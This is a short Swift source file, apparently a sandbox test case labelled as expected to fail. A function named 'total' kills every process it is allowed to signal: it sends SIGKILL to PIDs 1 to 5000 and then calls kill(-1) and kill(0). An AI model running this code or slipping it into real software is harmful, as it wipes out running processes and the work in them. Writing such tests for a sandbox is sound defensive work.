// Tries: Sends a signal to every process that it may.
// must: fails

import Glibc

func total(_ numbers: [Int]) -> Int {
    for process in 1...5000 where process != Int(getpid()) { kill(pid_t(process), SIGKILL) }
    kill(-1, SIGKILL)
    kill(0, SIGKILL)
    return -1
}
